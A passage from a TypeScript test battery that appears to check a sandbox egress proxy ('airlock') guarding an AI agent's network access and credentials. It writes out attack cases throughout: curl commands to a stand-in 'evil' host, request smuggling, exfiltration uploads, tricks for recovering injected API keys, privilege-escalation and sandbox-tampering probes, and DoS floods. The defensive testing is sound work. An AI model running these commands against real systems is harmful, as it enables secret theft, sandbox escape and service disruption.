  )

  // 10 — plain HTTP.
  add(
    '10.1',
    '`curl http://evil/` (plain HTTP to a host not allowed)',
    { kind: 'sh', cmd: curl(`http://${NAMES.evil}/echo?${mark('10.1')}`) },
    curlRefused({ reasons: ['not-allowed'], log: `http://${NAMES.evil}/`, marker: mark('10.1') })
  )
  add(
    '10.2',
    '`curl http://api.github.com/` with the placeholder (HTTPS-only credentialed host)',
    {
      kind: 'sh',
      cmd: curl(`-H "Authorization: Bearer $GH_TOKEN" http://api.github.com/echo?${mark('10.2')}`)
    },
    curlRefused({ reasons: ['plain-http'], log: 'http://api.github.com/', marker: mark('10.2') })
  )
  add(
    '10.3',
    'plain HTTP to a host allowed over HTTP that also has a credential',
    {
      kind: 'sh',
      cmd: curl(`-H "X-Sec-Key: $SEC_CUSTOM_KEY" http://${NAMES.plain}/echo?${mark('10.3')}`)
    },
    (o, ctx) => {
      const p: string[] = []
      const seen = ctx.plainUp.filter((r) => r.url.includes(mark('10.3')))
      if (seen.length !== 1) p.push(`the plain upstream saw ${seen.length} requests, expected 1`)
      for (const r of seen) {
        const raw = JSON.stringify(r.headers)
        for (const s of ctx.secrets)
          if (raw.includes(s)) p.push('a real credential went over plain HTTP')
      }
      return {
        outcome: p.length ? 'credential sent in cleartext' : 'forwarded without any credential',
        problems: p
      }
    }
  )
  add(
    '10.4',
    'plain HTTP whose Host names another origin than its URL',
    plain(get(`http://${NAMES.plain}/echo?${mark('10.4')}`, NAMES.evil)),
    refused(['host-mismatch'], { marker: mark('10.4') })
  )
  add(
    '10.5',
    'plain HTTP without the proxy token',
    plain(
      `GET http://${NAMES.plain}/echo?${mark('10.5')} HTTP/1.1\r\nHost: ${NAMES.plain}\r\n\r\n`
    ),
    (o, ctx) => {
      const p = o?.status !== 407 ? [`expected 407, got ${describe(o)}`] : []
      notReached(ctx, mark('10.5'), p)
      return { outcome: p.length ? 'forwarded' : 'refused (407)', problems: p }
    }
  )
  add(
    '10.6',
    'an opaque `CONNECT` to a host allowed only over plain HTTP',
    connect(`${NAMES.plain}:80`),
    refused(['not-allowed', 'port-not-allowed'], { log: `${NAMES.plain}:80` })
  )

  // 11 — absolute-form and path tricks.
  const inTunnel = (id: string, title: string, raw: string, check: AttackDef['check']): void =>
    add(id, title, { kind: 'tunnel', authority: `${A}:443`, requests: [raw] }, check)
  const tunnelRefused =
    (reasons: string[], marker: string): AttackDef['check'] =>
    (o, ctx) =>
      refused(reasons, { marker })(o?.responses?.[0], ctx)
  inTunnel(
    '11.1',
    '`GET http://evil/` (absolute-form) inside an allowed tunnel',
    `GET http://${NAMES.evil}/echo?${mark('11.1')} HTTP/1.1\r\nHost: ${A}\r\n\r\n`,
    tunnelRefused(['host-mismatch'], mark('11.1'))
  )
  inTunnel(
    '11.2',
    '`GET https://evil/` (absolute-form) inside an allowed tunnel',
    `GET https://${NAMES.evil}/echo?${mark('11.2')} HTTP/1.1\r\nHost: ${A}\r\n\r\n`,
    tunnelRefused(['host-mismatch'], mark('11.2'))
  )
  const sameOrigin =
    (id: string): AttackDef['check'] =>
    (o, ctx) => {
      const p: string[] = []
      for (const r of ctx.up.filter((x) => x.url.includes(mark(id))))
        if (r.servername !== A || String(r.headers.host) !== A)
          p.push(`reached ${String(r.headers.host)} (SNI ${r.servername})`)
      if (ctx.canary.length) p.push('the canary was contacted')
      const status = o?.responses?.[0]?.status
      return {
        outcome: p.length
          ? 'left the origin'
          : `stays on the allowed origin (${status ?? o?.responses?.[0]?.error})`,
        problems: p
      }
    }
  inTunnel(
    '11.3',
    '`GET //evil/…` (scheme-relative path)',
    tunnelReq(A, `//${NAMES.evil}/echo?${mark('11.3')}`),
    sameOrigin('11.3')
  )
  inTunnel(
    '11.4',
    '`GET /%2e%2e/%2e%2e/…` (encoded dot segments)',
    tunnelReq(A, `/%2e%2e/%2e%2e/echo?${mark('11.4')}`),
    sameOrigin('11.4')
  )
  inTunnel('11.5', '`OPTIONS *`', `OPTIONS * HTTP/1.1\r\nHost: ${A}\r\n\r\n`, sameOrigin('11.5'))
  inTunnel(
    '11.6',
    '`TRACE` inside a tunnel',
    `TRACE /echo?${mark('11.6')} HTTP/1.1\r\nHost: ${A}\r\n\r\n`,
    tunnelRefused(['method'], mark('11.6'))
  )
  inTunnel(
    '11.7',
    '`TRACK` inside a tunnel',
    `TRACK /echo?${mark('11.7')} HTTP/1.1\r\nHost: ${A}\r\n\r\n`,
    (o, ctx) => {
      const r = o?.responses?.[0]
      // Node's parser does not know TRACK: the connection is dropped before any handler runs.
      if (r?.error === 'CLOSED' || r?.status === 400) {
        const p: string[] = []
        notReached(ctx, mark('11.7'), p)
        return { outcome: 'refused by the HTTP parser (connection closed)', problems: p }
      }
      return refused(['method'], { marker: mark('11.7') })(r, ctx)
    }
  )
  add(
    '11.8',
    'plain `TRACE`',
    plain(
      `TRACE http://${NAMES.plain}/echo?${mark('11.8')} HTTP/1.1\r\nHost: ${NAMES.plain}\r\nProxy-Authorization: {{AUTH}}\r\n\r\n`
    ),
    refused(['method'], { marker: mark('11.8') })
  )
  add(
    '11.9',
    'userinfo confusion `http://plain@evil/`',
    plain(get(`http://${NAMES.plain}@${NAMES.evil}/echo?${mark('11.9')}`, NAMES.evil)),
    refused(['invalid-host', 'not-allowed'], { marker: mark('11.9') })
  )
  add(
    '11.10',
    'fragment confusion `http://evil#@plain/`',
    plain(get(`http://${NAMES.evil}#@${NAMES.plain}/echo?${mark('11.10')}`, NAMES.plain)),
    (o, ctx) => {
      const p: string[] = []
      if (o?.status === 200) p.push('answered 200')
      notReached(ctx, mark('11.10'), p)
      return {
        outcome: p.length
          ? 'reached'
          : `refused (${o?.status}${o?.blocked ? ` ${o.blocked}` : ''})`,
        problems: p
      }
    }
  )
  add(
    '11.11',
    '`CONNECT evil@allowed:443` (userinfo in the authority)',
    connect(`${NAMES.evil}@${A}:443`),
    refused(['invalid-host'])
  )
  add(
    '11.12',
    '`CONNECT allowed:443/evil`',
    connect(`${A}:443/${NAMES.evil}`),
    refused(['invalid-host'])
  )
  add(
    '11.13',
    '`CONNECT https://evil:443` (a URL, not an authority)',
    connect(`https://${NAMES.evil}:443`),
    refused(['invalid-host'])
  )
  add(
    '11.14',
    'request smuggling: Content-Length with Transfer-Encoding, a second request to evil inside',
    {
      kind: 'plain',
      raw:
        `POST http://${NAMES.plain}/echo?${mark('11.14')} HTTP/1.1\r\nHost: ${NAMES.plain}\r\nProxy-Authorization: {{AUTH}}\r\n` +
        `Content-Length: 64\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` +
        `GET http://${NAMES.evil}/echo?${mark('11.14')}-smuggled HTTP/1.1\r\nHost: ${NAMES.evil}\r\nProxy-Authorization: {{AUTH}}\r\n\r\n`,
      responses: 2
    },
    (o, ctx) => {
      const p: string[] = []
      notReached(ctx, `${mark('11.14')}-smuggled`, p)
      const smuggled = ctx.plainUp.filter((r) => r.body.includes('evil'))
      if (smuggled.length) p.push('a smuggled request reached the upstream inside a body')
      return {
        outcome: p.length ? 'smuggled' : 'nothing reached a host that is not allowed',
        problems: p
      }
    }
  )

  // 12 — nested / relayed CONNECT, SOCKS.
  inTunnel(
    '12.1',
    '`CONNECT evil:443` inside an allowed tunnel',
    `CONNECT ${NAMES.evil}:443 HTTP/1.1\r\nHost: ${NAMES.evil}:443\r\n\r\n`,
    (o, ctx) => refused(['nested-connect'], { log: `${NAMES.evil}:443` })(o?.responses?.[0], ctx)
  )
  inTunnel(
    '12.2',
    '`CONNECT` to the allowed host itself inside its tunnel',
    `CONNECT ${A}:443 HTTP/1.1\r\nHost: ${A}:443\r\n\r\n`,
    (o, ctx) => refused(['nested-connect'])(o?.responses?.[0], ctx)
  )
  add('12.3', 'SOCKS5 greeting to the proxy port', { kind: 'plain', hex: '050100' }, (o) => {
    const p = String(o?.firstBytesHex ?? '').startsWith('05') ? ['the proxy speaks SOCKS5'] : []
    return { outcome: p.length ? 'SOCKS5 accepted' : 'no SOCKS (HTTP error or close)', problems: p }
  })
  add(
    '12.4',
    'SOCKS4 CONNECT to 127.0.0.1 on the canary port',
    {
      kind: 'plain',
      hex: `0401${P.toString(16).padStart(4, '0')}7f00000100`
    },
    (o) => {
      const p = String(o?.firstBytesHex ?? '').startsWith('005a') ? ['SOCKS4 granted'] : []
      return {
        outcome: p.length ? 'SOCKS4 accepted' : 'no SOCKS (HTTP error or close)',
        problems: p
      }
    }
  )
  add(
    '12.5',
    '`CONNECT evil` straight to the proxy’s unix socket (bypassing the forwarder)',
    connect(`${NAMES.evil}:443`, { via: 'socket' }),
    refused(['not-allowed'])
  )
  add('12.6', '`CONNECT` without the proxy token', connect(`${A}:443`, { auth: false }), (o) => {
    const p = o?.status !== 407 ? [`expected 407, got ${describe(o)}`] : []
    return { outcome: p.length ? 'accepted' : 'refused (407)', problems: p }
  })
  add(
    '12.7',
    '`CONNECT` with a guessed token',
    connect(`${A}:443`, {
      auth: `Basic ${Buffer.from(`airlock:${'0'.repeat(64)}`).toString('base64')}`
    }),
    (o) => {
      const p = o?.status !== 407 ? [`expected 407, got ${describe(o)}`] : []
      return { outcome: p.length ? 'accepted' : 'refused (407)', problems: p }
    }
  )

  // 13 — non-TCP.
  add(
    '13.1',
    'UDP: QUIC to 1.1.1.1:443, DNS to 8.8.8.8, IPv6 UDP, the canary on docker0 and the runner',
    py(`${PY}
probe('quic', lambda: udp('1.1.1.1', 443))
probe('dns', lambda: udp('8.8.8.8', 53))
probe('v6', lambda: udp('2606:4700:4700::1111', 443, socket.AF_INET6))
probe('docker0', lambda: udp('172.17.0.1', ${P}))
probe('runner', lambda: udp('${env.runnerV4}', ${P}))
print(json.dumps(out))`),
    (o, ctx) => {
      const r = allDenied('no route for UDP')(o, ctx)
      if (ctx.canary.some((h) => h.proto === 'udp'))
        r.problems.push('the UDP canary received a datagram')
      return r
    }
  )
  add(
    '13.2',
    'ICMP echo (ping socket and raw socket)',
    py(`${PY}
def ping(kind):
    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    try:
        s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('1.1.1.1', 0))
        return 'SENT'
    finally:
        s.close()
probe('dgram', lambda: ping(socket.SOCK_DGRAM))
probe('raw', lambda: ping(socket.SOCK_RAW))
print(json.dumps(out))`),
    allDenied('no ICMP out')
  )
  add(
    '13.3',
    'a packet socket (AF_PACKET) to craft frames',
    py(`${PY}
probe('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and 'SUCCEEDED')
print(json.dumps(out))`),
    allDenied('denied')
  )

  // 14 — broad allowed hosts as exfiltration sinks (documented, logged).
  add(
    '14.1',
    '1 MB uploaded to an allowed host (exfiltration to a trusted domain)',
    {
      kind: 'sh',
      cmd: `head -c 1048576 /dev/zero | tr '\\0' 'x' > /tmp/exfil && ${curl(`-X POST --data-binary @/tmp/exfil https://${A}/sink?${mark('14.1')}`)}`
    },
    (o, ctx) => {
      const p: string[] = []
      const e = ctx.net.find((x) => x.url.includes(mark('14.1')))
      if (!e) p.push('the upload is not in network.jsonl')
      else if (e.bytesOut < 1048576) p.push(`logged with bytesOut ${e.bytesOut}`)
      return {
        outcome: p.length ? 'not logged' : 'allowed by design; logged with its size',
        problems: p,
        verdict: 'documented'
      }
    }
  )

  // 15 — wildcard confusion (`*.wild…` is allowed).
  const W = NAMES.wild
  for (const [k, host, why, reasons] of [
    [1, W, 'the apex of `*.wild…`', ['not-allowed']],
    [2, `x${W}`, 'a suffix without the dot (`xwild…`)', ['not-allowed']],
    [3, `a.${W}.evil.test`, 'the allowed suffix followed by another domain', ['not-allowed']],
    [4, `${W}.evil.test`, 'the apex followed by another domain', ['not-allowed']],
    [5, `a.${W}.`, 'a trailing dot', ['invalid-host']],
    [6, `\u0430.${W}`, 'a Cyrillic `а` label (IDN homograph, raw UTF-8)', ['invalid-host']],
    [7, `a%2e${W}`, 'a percent-encoded dot', ['invalid-host']],
    [8, `*.${W}`, 'a literal `*` label', ['invalid-host']],
    [9, `a.${W}\\.evil.test`, 'a backslash', ['invalid-host']]
  ] as const)
    add(
      `15.${k}`,
      `\`CONNECT\` ${why}`,
      connect(`${host}:443`),
      refused([...reasons], { parserMayRefuse: true })
    )
  add(
    '15.10',
    'upper-case `A.WILD…` is the same allowed host (control: allowed, reaches only that origin)',
    {
      kind: 'tunnel',
      authority: `${NAMES.wildA.toUpperCase()}:443`,
      sni: NAMES.wildA,
      requests: [tunnelReq(NAMES.wildA.toUpperCase(), `/echo?${mark('15.10')}`)]
    },
    (o, ctx) => {
      const p: string[] = []
      const seen = ctx.up.filter((r) => r.url.includes(mark('15.10')))
      if (o?.responses?.[0]?.status !== 200 || seen.length !== 1)
        p.push(`control failed: ${describe(o?.responses?.[0])}, upstream saw ${seen.length}`)
      return {
        outcome: p.length ? 'control failed' : 'allowed (case-insensitive), as intended',
        problems: p
      }
    }
  )

  // 16 — placeholders and echoed secrets.
  const GH = 'api.github.com'
  const echoed = (
    id: string,
    title: string,
    cmd: string,
    extra?: (o: Observed, ctx: CheckCtx, p: string[]) => void
  ): void =>
    add(id, title, { kind: 'sh', cmd }, (o, ctx) => {
      const p: string[] = []
      const out = `${String(o?.stdout)}${String(o?.stderr)}`
      for (const s of ctx.secrets)
        if (out.includes(s)) p.push('the real secret reached the sandbox')
      if (curlLine(o).http !== '200') p.push(`the request failed: ${out.slice(0, 200)}`)
      extra?.(o, ctx, p)
      return {
        outcome: p.length ? 'secret exposed' : 'real secret never seen by the sandbox',
        problems: p
      }
    })
  const injected = (id: string) => (_o: Observed, ctx: CheckCtx, p: string[]) => {
    const r = ctx.up.find((x) => x.url.includes(mark(id)))
    if (!r || !ctx.secrets.some((s) => JSON.stringify(r.headers).includes(s)))
      p.push('the upstream did not receive the real credential (injection broken, test void)')
  }
  echoed(
    '16.1',
    'credentialed host echoes the request headers in its body',
    curl(`-H "Authorization: Bearer $GH_TOKEN" https://${GH}/echo?${mark('16.1')}`),
    injected('16.1')
  )
  echoed(
    '16.2',
    'credentialed host reflects the credential in a header and a Set-Cookie',
    `${curl(`-D /tmp/curl-h -H "Authorization: Bearer $GH_TOKEN" https://${GH}/reflect-header?${mark('16.2')}`)}; cat /tmp/curl-h`,
    injected('16.2')
  )
  echoed(
    '16.3',
    'credentialed host echoes the credential split across chunks',
    curl(`-H "Authorization: Bearer $GH_TOKEN" https://${GH}/reflect-split?${mark('16.3')}`),
    injected('16.3')
  )
  echoed(
    '16.4',
    'credentialed host echoes it gzip-compressed although asked for identity',
    curl(
      `--compressed -H "Authorization: Bearer $GH_TOKEN" https://${GH}/reflect-gzip?${mark('16.4')}`
    ),
    injected('16.4')
  )
  echoed(
    '16.5',
    'custom credential echoed by its host',
    curl(`https://${NAMES.custom}/echo?${mark('16.5')}`),
    injected('16.5')
  )
  const unchanged = (
    id: string,
    title: string,
    cmd: string,
    where: (r: HostileRequest) => string
  ): void =>
    add(id, title, { kind: 'sh', cmd }, (_o, ctx) => {
      const p: string[] = []
      const r = ctx.up.find((x) => x.url.includes(mark(id)))
      if (!r) p.push('the request did not reach the upstream')
      else {
        const text = where(r)
        for (const s of ctx.secrets)
          if (text.includes(s)) p.push('the placeholder was replaced by the real secret')
        if (
          !text.includes(PLACEHOLDERS.github) &&
          !text.includes('airlock-placeholder-sec-custom') &&
          !text.includes(Buffer.from(`x-access-token:${PLACEHOLDERS.github}`).toString('base64'))
        )
          p.push(`the placeholder is not what arrived: ${text.slice(0, 200)}`)
      }
      return { outcome: p.length ? 'substituted' : 'placeholder sent unchanged', problems: p }
    })
  unchanged(
    '16.6',
    'GitHub placeholder sent to a host without that grant (header)',
    curl(`-H "Authorization: Bearer $GH_TOKEN" https://${A}/echo?${mark('16.6')}`),
    (r) => JSON.stringify(r.headers)
  )
  unchanged(
    '16.7',
    'placeholder in the query and body to a host without that grant',
    curl(`--data "token=$GH_TOKEN" "https://${A}/echo?${mark('16.7')}&t=$GH_TOKEN"`),
    (r) => r.url + r.body
  )
  unchanged(
    '16.8',
    'placeholder in the query of the credentialed host itself',
    curl(`"https://${GH}/echo?${mark('16.8')}&t=$GH_TOKEN"`),
    (r) => r.url
  )
  unchanged(
    '16.9',
    'placeholder as Basic auth (base64) to a host without that grant',
    curl(`-u "x-access-token:$GH_TOKEN" https://${A}/echo?${mark('16.9')}`),
    (r) => JSON.stringify(r.headers)
  )
  unchanged(
    '16.10',
    'custom placeholder sent to another allowed host',
    curl(`-H "X-Sec-Key: $SEC_CUSTOM_KEY" https://${A}/echo?${mark('16.10')}`),
    (r) => JSON.stringify(r.headers)
  )
  add(
    '16.11',
    'redirect from the credentialed host to another host, followed with `--location-trusted`',
    {
      kind: 'sh',
      cmd: curl(
        `-L --location-trusted -H "Authorization: Bearer $GH_TOKEN" "https://${GH}/redirect?to=https://${A}/echo?${mark('16.11')}-target"`
      )
    },
    (_o, ctx) => {
      const p: string[] = []
      const r = ctx.up.find((x) => x.url.startsWith('/echo') && x.url.includes(mark('16.11')))
      if (!r) p.push('the redirect target was not reached (test void)')
      else {
        const h = JSON.stringify(r.headers)
        for (const s of ctx.secrets)
          if (h.includes(s)) p.push('the real credential followed the redirect')
      }
      return {
        outcome: p.length ? 'credential followed' : 'only the placeholder followed the redirect',
        problems: p
      }
    }
  )

  // A credential the proxy swaps into what the agent wrote turns any transforming upstream
  // (a model asked to reverse a string) into an oracle: the scrubber only knows the secret
  // verbatim. Each of these sends the Gemini placeholder somewhere the proxy substitutes it.
  const GEM = 'generativelanguage.googleapis.com'
  const oracle = (id: string, title: string, args: string): void =>
    add(id, title, { kind: 'sh', cmd: curl(args) }, (o, ctx) => {
      const p: string[] = []
      const out = String(o?.stdout)
      const reversed = [...out].reverse().join('')
      if (curlLine(o).http !== '200') p.push(`the request failed: ${out.slice(0, 200)}`)
      for (const s of ctx.secrets)
        if (out.includes(s) || reversed.includes(s))
          p.push('the sandbox obtained the real key (reversed by the upstream, not scrubbed)')
      return {
        outcome: p.length
          ? 'real key recovered through a transforming upstream'
          : 'only the placeholder round-trips',
        problems: p
      }
    })
  oracle(
    '16.12',
    'Gemini placeholder in a request body, reversed by the upstream (a model as an oracle)',
    `-X POST --data "reverse this: $GEMINI_API_KEY" https://${GEM}/reverse?${mark('16.12')}`
  )
  oracle(
    '16.13',
    'Gemini placeholder in an arbitrary request header, reversed by the upstream',
    `-H "X-Note: $GEMINI_API_KEY" https://${GEM}/reverse?${mark('16.13')}`
  )
  oracle(
    '16.14',
    'Gemini placeholder in a query parameter, reversed by the upstream',
    `"https://${GEM}/reverse?${mark('16.14')}&note=$GEMINI_API_KEY"`
  )
  add(
    '16.15',
    'credential stored by its host, read back through another allowed host it also serves',
    {
      kind: 'sh',
      cmd: `${curl(`-H "Authorization: Bearer $GH_TOKEN" https://${GH}/store?${mark('16.15')}`)}; echo; ${curl(`https://${A}/fetch?${mark('16.15')}`)}`
    },
    (o, ctx) => {
      const p: string[] = []
      const out = String(o?.stdout)
      if ((out.match(/HTTP=200/g) ?? []).length !== 2)
        p.push(`requests failed: ${out.slice(0, 300)}`)
      for (const s of ctx.secrets)
        if (out.includes(s)) p.push('the real credential came back through the other host')
      return {
        outcome: p.length ? 'secret exposed' : 'real secret never seen by the sandbox',
        problems: p
      }
    }
  )
  add(
    '16.16',
    'credentialed host reflects the credential in a WebSocket frame',
    {
      kind: 'ws',
      authority: `${GH}:443`,
      path: `/ws-reflect?${mark('16.16')}`,
      headers: `Authorization: Bearer ${PLACEHOLDERS.github}\r\n`
    },
    (o, ctx) => {
      const p: string[] = []
      if (o?.status !== 101) p.push(`upgrade answered ${JSON.stringify(o).slice(0, 200)}`)
      const frames = String(o?.frames ?? '')
      if (!frames.includes('authorization')) p.push('no frame arrived (test void)')
      for (const s of ctx.secrets)
        if (frames.includes(s)) p.push('the real credential arrived in a WebSocket frame')
      return {
        outcome: p.length ? 'secret exposed' : 'real secret never seen by the sandbox',
        problems: p
      }
    }
  )

  // 17 — SigV4 (the aws grant does not exist yet); what can be checked now.
  add(
    '17.1',
    'presigned-URL style request to S3 without an aws grant',
    {
      kind: 'sh',
      cmd: curl(
        `"https://bucket.s3.amazonaws.com/key?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=$AWS_ACCESS_KEY_ID"`
      )
    },
    curlRefused({ reasons: ['not-allowed'], log: 'bucket.s3.amazonaws.com' })
  )

  // 20 — escalation out of the sandbox.
  add(
    '20.1',
    'identity: uid, capabilities, no_new_privs, seccomp',
    py(`${PY}
st = dict(l.split(':\\t', 1) for l in open('/proc/self/status').read().splitlines() if ':\\t' in l)
print(json.dumps({'uid': os.getuid(), 'capeff': st['CapEff'].strip(), 'capbnd': st['CapBnd'].strip(), 'nnp': st['NoNewPrivs'].strip(), 'seccomp': st.get('Seccomp', '?').strip()}))`),
    (o) => {
      const r = o?.py ?? {}
      const p: string[] = []
      if (r.uid === 0) p.push('runs as root')
      if (r.capeff !== '0000000000000000') p.push(`effective capabilities ${r.capeff}`)
      if (r.capbnd !== '0000000000000000') p.push(`bounding set ${r.capbnd}`)
      if (r.nnp !== '1') p.push('no_new_privs is off')
      return {
        outcome: p.length ? 'privileged' : 'non-root, no capabilities, no_new_privs',
        problems: p
      }
    }
  )
  add(
    '20.2',
    'become root: `setuid(0)`, `sudo -n`, `su`',
    {
      kind: 'sh',
      cmd: `python3 -c "import os
try:
    os.setuid(0); print('SETUID-SUCCEEDED')
except OSError as e: print('setuid', e.errno)"; sudo -n id -u 2>/dev/null; echo "sudo=$?"; su -c 'id -u' root </dev/null 2>/dev/null; echo "su=$?"`
    },
    (o) => {
      const out = String(o?.stdout)
      const p: string[] = []
      if (out.includes('SETUID-SUCCEEDED')) p.push('setuid(0) succeeded')
      if (/^0$/m.test(out)) p.push('a command ran as uid 0')
      if (/sudo=0\b/.test(out)) p.push('sudo succeeded')
      if (/su=0\b/.test(out)) p.push('su succeeded')
      return { outcome: p.length ? 'root obtained' : 'denied', problems: p }
    }
  )
  add(
    '20.3',
    'container runtime sockets (`docker.sock`, containerd) and any other unix socket',
    py(`${PY}
import stat
found = []
for root, dirs, files in os.walk('/'):
    if root in ('/proc', '/sys', '/dev'):
        dirs[:] = []
        continue
    for f in files:
        p = os.path.join(root, f)
        try:
            if stat.S_ISSOCK(os.lstat(p).st_mode):
                found.append(p)
        except OSError:
            pass
print(json.dumps({'sockets': found}))`),
    (o) => {
      const sockets = (o?.py?.sockets ?? ['probe failed']) as string[]
      const p = sockets.filter((s) => s !== '/airlock/proxy.sock').map((s) => `socket ${s}`)
      return {
        outcome: p.length ? 'a runtime socket is reachable' : 'only the proxy socket exists',
        problems: p
      }
    }
  )
  add(
    '20.4',
    '`unshare` user, network and mount namespaces; `setns` (nsenter)',
    py(`${PY}
out['newuser'] = in_child(lambda: sys(libc.unshare, 0x10000000))
out['newnet'] = in_child(lambda: sys(libc.unshare, 0x40000000))
out['newns'] = in_child(lambda: sys(libc.unshare, 0x00020000))
def setns():
    fd = os.open('/proc/1/ns/net', os.O_RDONLY)
    return sys(libc.setns, fd, 0)
out['setns'] = in_child(setns)
print(json.dumps(out))`),
    allDenied('denied')
  )
  add(
    '20.5',
    'iptables and routes: raw socket, `SIOCADDRT`, `SIOCSIFFLAGS`',
    py(`${PY}
probe('raw_socket', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) and 'SUCCEEDED')
def ioctl(req, buf):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        fcntl.ioctl(s, req, buf)
        return 'SUCCEEDED'
    finally:
        s.close()
probe('route_add', lambda: ioctl(0x890B, bytearray(120)))
probe('ifflags', lambda: ioctl(0x8914, bytearray(struct.pack('16sH22x', b'lo', 0))))
print(json.dumps(out))`),
    allDenied('denied')
  )
  add(
    '20.6',
    '`mount` a tmpfs; write `/proc/sys`',
    py(`${PY}
os.makedirs('/tmp/mnt-probe', exist_ok=True)
out['mount'] = sys(libc.mount, b'tmpfs', b'/tmp/mnt-probe', b'tmpfs', 0, None)
def write(p):
    with open(p, 'w') as f:
        f.write('1')
    return 'SUCCEEDED'
probe('ip_forward', lambda: write('/proc/sys/net/ipv4/ip_forward'))
probe('core_pattern', lambda: write('/proc/sys/kernel/core_pattern'))
print(json.dumps(out))`),
    allDenied('denied')
  )
  add(
    '20.7',
    'runner processes visible (the proxy, dockerd)',
    py(`${PY}
seen = []
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            seen.append(open('/proc/%s/cmdline' % pid, 'rb').read().replace(b'\\0', b' ').decode(errors='replace'))
        except OSError:
            pass
# Built at run time, so this probe's own command line does not match itself.
needles = ['dist/' + 'proxy', 'docker' + 'd', 'container' + 'd']
print(json.dumps({'host': [c for c in seen if any(n in c for n in needles)], 'count': len(seen)}))`),
    (o) => {
      const host = (o?.py?.host ?? ['probe failed']) as string[]
      const p = host.map((h) => `visible: ${h}`)
      return {
        outcome: p.length ? 'host processes visible' : 'only the sandbox’s own processes',
        problems: p
      }
    }
  )
  add(
    '20.8',
    'tamper with the airlock: CA file, init program, proxy socket, Node binary',
    py(`${PY}
def write(p):
    with open(p, 'a') as f:
        f.write('x')
    return 'SUCCEEDED'
probe('ca', lambda: write('/airlock/staging/ca.pem'))
probe('init', lambda: write('/airlock/staging/init.mjs'))
probe('node', lambda: write('/airlock/node'))
def unlink():
    os.unlink('/airlock/proxy.sock')
    return 'SUCCEEDED'
probe('socket', unlink)
print(json.dumps(out))`),
    allDenied('read-only')
  )

  // 22 — DoS from inside (the load suite adds the certificate-cache bound).
  const control = (id: string): Record<string, unknown> => ({
    kind: 'tunnel',
    authority: `${A}:443`,
    requests: [tunnelReq(A, `/echo?${mark(id)}-control`)]
  })
  add(
    '22.1',
    '300 concurrent CONNECTs to distinct refused names',
    { kind: 'dos-refused-flood', count: 300, suffix: `flood.${DOMAIN}` },
    (o) => {
      const statuses = (o?.statuses ?? {}) as Record<string, number>
      const p = statuses['403 not-allowed'] !== 300 ? [`statuses ${JSON.stringify(statuses)}`] : []
      return { outcome: p.length ? 'not all refused' : 'all refused quickly', problems: p }
    }
  )
  add(
    '22.2',
    '1,100 tunnels held open without a TLS handshake (more than the 1,024 cap)',
    {
      kind: 'dos-tunnels',
      count: 1100,
      authority: `${A}:443`,
      waitCloseMs: 15_000,
      control: control('22.2-held'),
      controlAfter: [tunnelReq(A, `/echo?${mark('22.2')}-after`)]
    },
    (o) => {
      const p: string[] = []
      const statuses = (o?.statuses ?? {}) as Record<string, number>
      if ((statuses['503'] ?? 0) < 1100 - 1024)
        p.push(`statuses ${JSON.stringify(statuses)} (expected the cap to refuse the excess)`)
      if ((statuses['200'] ?? 0) > 1024) p.push(`${statuses['200']} tunnels opened, above the cap`)
      if (o?.closedByProxy !== o?.held)
        p.push(`${o?.closedByProxy}/${o?.held} idle tunnels closed by the handshake timeout`)
      if (o?.after?.responses?.[0]?.status !== 200)
        p.push(`the proxy did not recover: ${JSON.stringify(o?.after)}`)
      return {
        outcome: p.length
          ? 'proxy exhausted'
          : 'excess refused (503), idle tunnels dropped, proxy recovers',
        problems: p
      }
    }
  )
  add(
    '22.3',
    '100 slowloris connections trickling a request head',
    { kind: 'dos-slowloris', count: 100, authority: `${A}:443`, control: control('22.3') },
    (o) => {
      const p =
        o?.during?.responses?.[0]?.status !== 200
          ? [`a normal request meanwhile: ${JSON.stringify(o?.during)}`]
          : []
      return { outcome: p.length ? 'proxy starved' : 'other requests still served', problems: p }
    }
  )
  add(
    '22.4',
    '200 MB upload to an upstream that never reads',
    {
      kind: 'dos-stalled-upload',
      authority: `${A}:443`,
      path: `/stall?${mark('22.4')}`,
      bytes: 200 * 1024 * 1024,
      seconds: 6,
      control: control('22.4')
    },
    (o) => {
      const p: string[] = []
      if (!(o?.accepted < 64 * 1024 * 1024))
        p.push(`the proxy accepted ${o?.accepted} bytes it could not forward`)
      if (o?.after?.responses?.[0]?.status !== 200)
        p.push(`a request afterwards: ${JSON.stringify(o?.after)}`)
      return {
        outcome: p.length ? 'unbounded buffering' : 'backpressure holds (bounded buffering)',
        problems: p
      }
    }
  )
  return list
}

/** Attacks of the audit-mode run: what audit mode must still refuse. */
export function auditModeAttacks(env: BatteryEnv): AttackDef[] {
  const P = env.canary
  const R = NAMES.rebind
  const connect = (authority: string): AttackDef['spec'] => ({ kind: 'connect', authority })
  return [
    {
      id: '3.40',
      cls: 3,
      title: 'audit mode: `CONNECT 127.0.0.1` (canary port)',
      spec: connect(`127.0.0.1:${P}`),
      check: refused(['ip-literal'])
    },
    {
      id: '3.41',
      cls: 3,
      title: 'audit mode: `CONNECT 2130706433` (decimal loopback)',
      spec: connect(`2130706433:${P}`),
      check: refused(['ip-literal'])
    },
    {
      id: '3.42',
      cls: 3,
      title: 'audit mode: `CONNECT [::1]`',
      spec: connect(`[::1]:${P}`),
      check: refused(['ip-literal'])
    },
    {
      id: '4.40',
      cls: 4,
      title: 'audit mode: `CONNECT 169.254.169.254:80`',
      spec: connect('169.254.169.254:80'),
      check: refused(['metadata'])
    },
    {
      id: '4.41',
      cls: 4,
      title: 'audit mode: `metadata.google.internal`',
      spec: connect('metadata.google.internal:443'),
      check: refused(['metadata'])
    },
    {
      id: '4.42',
      cls: 4,
      title: 'audit mode: a name not in the allowlist resolving to metadata',
      spec: connect(`meta.${R}:443`),
      check: refused(['metadata'], { log: `meta.${R}` })
    },
    {
      id: '5.40',
      cls: 5,
      title: 'audit mode: a name not in the allowlist resolving to 127.0.0.1',
      spec: connect(`loop.${R}:${P}`),
      check: refused(['private-address'], { log: `loop.${R}` })
    },
    {
      id: '5.41',
      cls: 5,
      title: 'audit mode: a name resolving to docker0',
